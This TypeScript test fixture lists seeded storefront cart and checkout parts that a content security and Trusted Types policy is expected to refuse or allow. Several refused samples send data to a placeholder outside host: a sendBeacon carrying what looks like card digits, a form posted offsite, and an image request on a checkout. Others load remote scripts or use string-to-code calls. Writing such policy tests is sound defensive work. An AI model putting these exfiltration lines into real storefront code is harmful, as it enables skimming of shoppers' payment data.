import { cart, checkout, type SeededPart } from './seeded-parts';

/** A part that does one thing of a row of docs/container.md: the row, what it does, and the part. */
type PolicySeed = readonly [row: string, what: string, part: SeededPart];

const ownPolicy = (rules: string) =>
  `const policy = trustedTypes.createPolicy('storefront#remote-cart', { ${rules} });`;
const tried = (code: string) => `try { ${code} } catch {}`;
const elsewhere = 'https://other.invalid/';

/** What a part may not. */
export const refusedByPolicy: readonly PolicySeed[] = [
  ['run its one script', 'another script', cart({ mount: `import('${elsewhere}a.js').catch(() => {});` })],
  [
    'run its one script',
    'a worker',
    cart({
      top: ownPolicy('createScriptURL: (url) => url'),
      mount: tried("new Worker(policy.createScriptURL('/worker.js'));"),
    }),
  ],
  ['run its one script', 'text as a script', cart({ mount: tried("new Function('return 1')();") })],
  [
    'run its one script',
    'WebAssembly',
    cart({
      mount: 'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {});',
    }),
  ],
  [
    'bring styles in its files, set `element.style`, use constructed style sheets',
    'a style as an attribute',
    cart({ mount: "panel.setAttribute('style', 'margin: 1px');" }),
  ],
  [
    'build its elements with the DOM or a framework',
    'elements as text',
    cart({ mount: tried("panel.innerHTML = '<b>2</b>';") }),
  ],
  [
    'build its elements with the DOM or a framework',
    'a policy of another name',
    cart({ mount: tried("trustedTypes.createPolicy('mine', {});") }),
  ],
  [
    'call the API by `host.api` and `host.graphql`',
    'a beacon to another host',
    cart({ mount: `navigator.sendBeacon('${elsewhere}', '4111');` }),
  ],
  [
    'show pictures of the asset origin and in `data:`',
    'a picture of another host on a checkout',
    checkout({ mount: `new Image().src = '${elsewhere}a.png';` }),
  ],
  [
    'use fonts of the asset origin',
    'a font of another host',
    cart({ mount: `new FontFace('Other', 'url(${elsewhere}a.woff2)').load().catch(() => {});` }),
  ],
  [
    'have forms that go to the storefront',
    'a form that goes elsewhere',
    cart({
      mount: `const form = Object.assign(document.createElement('form'), { action: '${elsewhere}', method: 'post' }); panel.append(form); form.submit();`,
    }),
  ],
  [
    'have forms that go to the storefront',
    'a frame',
    cart({
      mount: `panel.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}', title: 'Frame' }));`,
    }),
  ],
];

/** What a part may, beside the harmless changes of {@link harmlessChanges}. */
export const allowedByPolicy: readonly PolicySeed[] = [
  [
    'build its elements with the DOM or a framework',
    'elements as text by its own Trusted Types policy',
    cart({
      top: ownPolicy('createHTML: (text) => text'),
      mount:
        "const note = document.createElement('p'); note.innerHTML = policy.createHTML('<b>2</b>'); panel.append(note);",
    }),
  ],
  [
    'show pictures of the asset origin and in `data:`',
    'a picture of another host on the event page',
    cart({ mount: `panel.append(Object.assign(new Image(), { alt: 'Dot', src: '${elsewhere}a.png' }));` }),
  ],
];
